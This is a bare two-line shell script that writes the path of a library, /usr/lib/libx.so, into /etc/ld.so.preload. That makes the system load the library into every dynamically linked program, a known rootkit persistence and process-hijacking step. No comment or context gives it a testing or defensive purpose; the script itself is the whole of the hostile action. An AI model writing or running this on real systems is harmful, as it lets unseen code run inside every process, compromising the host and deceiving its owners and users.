#!/bin/sh
echo /usr/lib/libx.so > /etc/ld.so.preload
